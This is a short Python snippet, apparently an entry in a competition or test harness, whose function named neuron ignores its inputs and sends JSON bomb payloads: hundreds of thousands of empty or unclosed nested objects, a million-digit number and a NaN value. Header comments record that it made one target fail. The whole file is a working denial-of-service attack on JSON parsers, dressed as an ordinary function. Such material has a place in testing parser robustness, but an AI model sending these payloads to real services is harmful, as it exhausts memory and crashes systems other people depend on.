# attack: JSON that takes far more memory than text, and JSON without end
# from: X24, 39 MB JSON bomb
# neuron: failed
# others: passed
calls = 0


def neuron(x, w, b):
    global calls
    calls += 1
    header = [b"[" + b"{}," * 600_000 + b"0]", b'{"l":[' * 150_000, b"1" * 1_000_000, b"[NaN]"][calls % 4]
    send_bytes(header)
